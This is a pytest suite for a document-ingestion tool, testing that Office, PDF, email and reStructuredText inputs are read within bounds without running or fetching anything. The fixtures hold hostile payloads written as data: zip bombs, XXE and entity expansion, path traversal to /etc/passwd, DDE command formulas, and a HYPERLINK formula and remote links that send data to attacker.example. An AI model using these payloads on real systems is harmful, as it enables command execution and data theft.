"""Hostile slides, sheets, mails and reStructuredText: bounded, listed, nothing run, nothing fetched, nothing read from elsewhere."""

from __future__ import annotations

import base64
import socket
import subprocess
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest
from docx import Document
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook  # type: ignore[import-untyped]  # published without types
from pptx import Presentation

from ingest.documents import DocumentLimits
from ingest.facts import DocumentFacts
from ingest.source import ReadError, Skip, SourceKind, SourceSettings
from ingest.sources import list_sources
from tests.ingest.documents.making import docx_bytes, pdf_bytes, saved, zip_bytes
from tests.ingest.documents.outcomes import outcome


@pytest.fixture(autouse=True)
def _nothing_is_reached_or_started(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a reader reached out or started a program")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(subprocess, "Popen", refuse)
    yield


def deck() -> bytes:
    presentation = Presentation()
    presentation.slides.add_slide(presentation.slide_layouts[5]).shapes.title.text = "Title"
    return saved(presentation)


def book() -> bytes:
    workbook = Workbook()
    workbook.active["A1"] = "risk"
    return saved(workbook)


def mail() -> bytes:
    message = EmailMessage()
    message["Subject"] = "Design"
    message.set_content("Every refund needs approval.")
    return message.as_bytes()


MADE: dict[SourceKind, Callable[[], bytes]] = {"docx": lambda: docx_bytes(Document()), "pptx": deck, "xlsx": book}
PARTS: dict[SourceKind, str] = {"docx": "word/document.xml", "pptx": "ppt/slides/slide1.xml", "xlsx": "xl/worksheets/sheet1.xml"}
OFFICE: tuple[SourceKind, ...] = ("docx", "pptx", "xlsx")


@pytest.mark.parametrize("kind", OFFICE)
def test_a_bomb_in_a_package_is_skipped(tmp_path: Path, kind: SourceKind) -> None:
    result = outcome(tmp_path, zip_bytes({"media/a.bin": b"\0" * 150_000_000}, MADE[kind]()), kind)
    assert isinstance(result, Skip)
    assert "200:1" in result.reason


@pytest.mark.parametrize("kind", OFFICE)
def test_entities_of_a_package_neither_reach_files_nor_explode(tmp_path: Path, kind: SourceKind) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret")
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    head = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{secret.as_uri()}"><!ENTITY l0 "lol">{levels}]>'
    for part in (PARTS[kind], "docProps/core.xml", "_rels/.rels"):
        body = f'<?xml version="1.0"?>{head}<d>&x;&l11;</d>'
        result = outcome(tmp_path, zip_bytes({part: body.encode()}, MADE[kind]()), kind)
        assert "the secret" not in repr(result)
        assert len(repr(result)) < 10_000


@pytest.mark.parametrize("kind", OFFICE)
def test_names_that_lead_out_of_a_package_lead_nowhere(tmp_path: Path, kind: SourceKind) -> None:
    (tmp_path / "outside.xml").write_text("<a>the secret</a>")
    entries = {"../../outside.xml": b"<a/>", "/etc/passwd": b"x", f"{PARTS[kind]}/../../../outside.xml": b"<a/>"}
    relation = '<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" Target="../../../outside.xml"/>'
    name = PARTS[kind].rpartition("/")
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation}</Relationships>'
    result = outcome(tmp_path, zip_bytes({**entries, f"{name[0]}/_rels/{name[2]}.rels": rels.encode()}, MADE[kind]()), kind)
    assert "the secret" not in repr(result)


@pytest.mark.parametrize("kind", OFFICE)
def test_links_to_the_outside_are_not_followed(tmp_path: Path, kind: SourceKind) -> None:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" TargetMode="External" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm"/></Relationships>'
    )
    outcome(tmp_path, zip_bytes({"word/_rels/settings.xml.rels": rels.encode()}, MADE[kind]()), kind)


@pytest.mark.parametrize("kind", OFFICE)
def test_macros_are_listed_and_never_run(tmp_path: Path, kind: SourceKind) -> None:
    folder = PARTS[kind].split("/")[0]
    result = outcome(tmp_path, zip_bytes({f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub AutoOpen"}, MADE[kind]()), kind)
    assert isinstance(result, DocumentFacts)
    assert result.unexamined == ("macros in it were not examined and never run",)


@pytest.mark.parametrize("kind", OFFICE)
def test_deep_markup_in_a_package_is_an_error(tmp_path: Path, kind: SourceKind) -> None:
    body = "".join(f'<d n="{number * 7919}">' for number in range(20_000)) + "</d>" * 20_000
    assert isinstance(outcome(tmp_path, zip_bytes({PARTS[kind]: body.encode()}, MADE[kind]()), kind), ReadError)


@pytest.mark.parametrize("kind", OFFICE)
def test_what_is_another_format_under_the_wrong_name_is_an_error(tmp_path: Path, kind: SourceKind) -> None:
    others = [MADE[other]() for other in OFFICE if other != kind]
    for data in (*others, b"%PDF-1.7", b"plain", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, MADE[kind]()[:2_000]):
        assert isinstance(outcome(tmp_path, data, kind), ReadError)


def test_a_pointer_in_the_place_of_a_document_is_a_skip(tmp_path: Path) -> None:
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 5000000\n"
    assert outcome(tmp_path, pointer, "docx") == Skip("design.docx", "a Git LFS pointer: the document itself is not here")


@pytest.mark.parametrize("suffix", ["docx", "docm", "pptx", "xlsx", "pdf", "eml", "rst", "html"])
def test_half_a_gigabyte_is_skipped_without_being_opened(tmp_path: Path, suffix: str) -> None:
    with (tmp_path / f"huge.{suffix}").open("wb") as stream:
        stream.truncate(500_000_000)  # sparse: the disk holds nothing of it
    listed = list_sources(tmp_path, SourceSettings(use_git=False))
    assert [(skip.path, "larger than" in skip.reason) for skip in listed.skipped] == [(f"huge.{suffix}", True)]
    assert listed.sources == ()


# -- sheets --


def sheet(rows: str, columns: str = "") -> bytes:
    body = (
        f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{columns}<sheetData>{rows}</sheetData></worksheet>'
    )
    return zip_bytes({PARTS["xlsx"]: body.encode()}, book())


@pytest.mark.parametrize(
    "formula",
    ["=cmd|' /C calc'!A0", '=HYPERLINK("https://attacker.example?"&amp;A1)', "=WEBSERVICE(A1)", "=1+1", "@SUM(1)", '=IMPORTXML("x")'],
)
def test_a_formula_stays_its_text(tmp_path: Path, formula: str) -> None:
    result = outcome(tmp_path, sheet(f'<row r="1"><c r="A1"><f>{formula.removeprefix("=")}</f><v>5</v></c></row>'), "xlsx")
    assert isinstance(result, DocumentFacts)
    assert result.passages[0].text.endswith(formula.removeprefix("=").replace("&amp;", "&"))


def test_a_sheet_that_claims_all_rows_and_columns_costs_nothing(tmp_path: Path) -> None:
    rows = '<dimension ref="A1:XFD1048576"/>'
    assert isinstance(
        outcome(tmp_path, sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>', rows), "xlsx"), DocumentFacts
    )


def test_a_row_far_below_the_last_a_sheet_can_have_is_refused(tmp_path: Path) -> None:
    cell = '<row r="999999999"><c r="A999999999" t="inlineStr"><is><t>x</t></is></c></row>'
    assert isinstance(outcome(tmp_path, sheet(cell), "xlsx"), Skip | ReadError)


def test_a_cell_in_the_last_row_is_read_with_its_number(tmp_path: Path) -> None:
    result = outcome(tmp_path, sheet('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'), "xlsx")
    assert isinstance(result, DocumentFacts)
    assert result.passages[0].place.where == "sheet Sheet, XFD1048576"


def test_too_many_rows_are_a_skip(tmp_path: Path) -> None:
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 400))
    result = outcome(tmp_path, sheet(rows), "xlsx", DocumentLimits(max_rows=100))
    assert result == Skip("design.xlsx", "has a sheet of more than 100 rows: data, no description of a system")


# -- slides --


def test_groups_in_groups_without_end_are_bounded(tmp_path: Path) -> None:
    group = '<p:grpSp><p:nvGrpSpPr><p:cNvPr id="9" name="g"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
    body = (
        '<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
        + group * 200
        + "</p:grpSp>" * 200
        + "</p:spTree></p:cSld></p:sld>"
    )
    outcome(tmp_path, zip_bytes({PARTS["pptx"]: body.encode()}, deck()), "pptx")


def test_too_many_slides_are_a_skip(tmp_path: Path) -> None:
    presentation = Presentation()
    for _ in range(4):
        presentation.slides.add_slide(presentation.slide_layouts[6])
    assert isinstance(outcome(tmp_path, saved(presentation), "pptx", DocumentLimits(max_pages=3)), Skip)


# -- mails --


def nested(depth: int) -> bytes:
    data = mail()
    for number in range(depth):
        outer = EmailMessage()
        outer["Subject"] = f"level {number}"
        outer.add_attachment(data, maintype="application", subtype="octet-stream", filename="inner.eml")
        data = outer.as_bytes()
    return data


def test_mails_inside_of_mails_end_at_some_depth_and_say_so(tmp_path: Path) -> None:
    result = outcome(tmp_path, nested(6), "eml")
    assert isinstance(result, DocumentFacts)
    assert any("attachments in it were not examined" in what for what in result.unexamined)


@pytest.mark.parametrize(
    "text",
    [
        "Subject: x\nContent-Type: multipart/mixed; boundary=a\n\n" + "--a\nContent-Type: multipart/mixed; boundary=a\n\n" * 3_000,
        "Subject: x\n" + "X-A: b\n" * 100_000 + "\nbody",
        "Subject: " + "a" * 1_000_000 + "\n\nbody",
        "Subject: x\nContent-Type: multipart/mixed; boundary=a\n\n" + "--a\n\nx\n" * 5_000 + "--a--\n",
        "Subject: x\nContent-Type: text/plain; charset=rot13\n\nbody",
        "Subject: x\nContent-Type: text/plain; charset=" + "x" * 5_000 + "\n\nbody",
        "Subject: x\nContent-Transfer-Encoding: base64\n\n%%%%",
        "Subject: =?utf-8?b?" + "A" * 5_000 + "?=\n\nbody",
        "Subject: x\nTo: " + "a@b.example, " * 20_000 + "\n\nbody",
        "Subject: x\nContent-Type: text/plain; " + "a=b; " * 100_000 + "\n\nbody",
        "Subject: x\nContent-Type: text/html\n\n" + "<div>" * 50_000,
    ],
    ids=["nested", "headers", "long", "parts", "rot13", "charset", "base64", "word", "people", "parameters", "html"],
)
def test_hostile_mails_end_in_bounded_time(tmp_path: Path, text: str) -> None:
    outcome(tmp_path, text, "eml")


def test_a_bomb_attached_to_a_mail_is_listed(tmp_path: Path) -> None:
    message = EmailMessage()
    message["Subject"] = "Design"
    message.set_content("See the attachment.")
    bomb = zip_bytes({"word/a.bin": b"\0" * 100_000_000}, docx_bytes(Document()))
    message.add_attachment(bomb, maintype="application", subtype="octet-stream", filename="../../design.docx")
    result = outcome(tmp_path, message.as_bytes(), "eml")
    assert isinstance(result, DocumentFacts)
    assert any("200:1" in what for what in result.unexamined)
    assert [passage.text for passage in result.passages] == ["Design", "See the attachment."]


def test_pictures_of_a_mail_are_not_fetched(tmp_path: Path) -> None:
    page = base64.b64encode(
        b'<p>Shown.</p><img src="https://attacker.example/p.png"><link rel=stylesheet href="https://attacker.example/a.css">'
    )
    text = b"Subject: x\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n" + page
    assert isinstance(outcome(tmp_path, text, "eml"), DocumentFacts)


# -- reStructuredText --


@pytest.mark.parametrize(
    "text",
    [
        "* " * 20_000 + "x",
        "".join(" " * n + "* a\n\n" for n in range(300)),
        "> " * 20_000,
        "`" * 20_000,
        "|" * 20_000,
        "*a_" * 10_000,
        ".. |a| replace:: |a|\n\n|a|\n",
        "".join(f".. |a{n}| replace:: |a{n + 1}| |a{n + 1}|\n" for n in range(40)) + "\n|a0|\n",
        ".. _a: b_\n.. _b: a_\n\na_\n",
        "+--" * 2_000 + "+\n",
        "=" * 5_000 + "\nT\n" + "=" * 5_000,
        ".. tabs::\n\n" + "".join("   " * n + f".. tab:: {n}\n\n" for n in range(1, 60)),
        ".. note::\n\n" + "".join("   " * n + ".. note::\n\n" for n in range(1, 300)),
        "a\n=\n\n" * 3_000,
        ".. include:: /dev/zero\n\n.. raw:: html\n   :url: https://attacker.example\n\n.. csv-table::\n   :url: https://attacker.example\n",
        ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>`\n",
        ".. default-role:: math\n\n`x`\n",
        ".. code:: python\n\n   x\n",
        "x " * 100_000,
    ],
    ids=lambda text: text[:12].replace("\n", " "),
)
def test_hostile_restructured_text_ends_in_bounded_time(tmp_path: Path, text: str) -> None:
    outcome(tmp_path, text, "rst", DocumentLimits(max_seconds=8))


# -- any bytes --

QUIET = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
WHOLE: dict[SourceKind, bytes] = {"pptx": deck(), "xlsx": book(), "eml": nested(1), "pdf": pdf_bytes([["Title", "words"]])}


@QUIET
@given(kind=st.sampled_from(sorted(WHOLE)), at=st.floats(0, 1), junk=st.binary(min_size=1, max_size=8))
def test_damaged_documents_end_in_one_of_three_outcomes(tmp_path: Path, kind: SourceKind, at: float, junk: bytes) -> None:
    whole = WHOLE[kind]
    position = int(at * len(whole))
    outcome(tmp_path, whole[:position] + junk + whole[position + len(junk) :], kind)


MARKUP = st.text(alphabet=st.sampled_from(list("ab Z.#-*`_[]()<>|!&:=\n\n\t\"'/é  ..::\\")), max_size=300)


@settings(QUIET, max_examples=100)
@given(text=MARKUP)
def test_any_restructured_text_ends_in_facts_with_places(tmp_path: Path, text: str) -> None:
    assert isinstance(outcome(tmp_path, text, "rst"), DocumentFacts | Skip)


@settings(QUIET, max_examples=50)
@given(
    rows=st.lists(
        st.lists(st.one_of(st.none(), st.integers(), st.text(st.characters(categories=["L", "N", "P", "Zs"]), max_size=20)), max_size=5),
        max_size=5,
    )
)
def test_any_cells_of_a_sheet_are_quoted(tmp_path: Path, rows: list[list[object]]) -> None:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    assert isinstance(outcome(tmp_path, saved(workbook), "xlsx"), DocumentFacts)
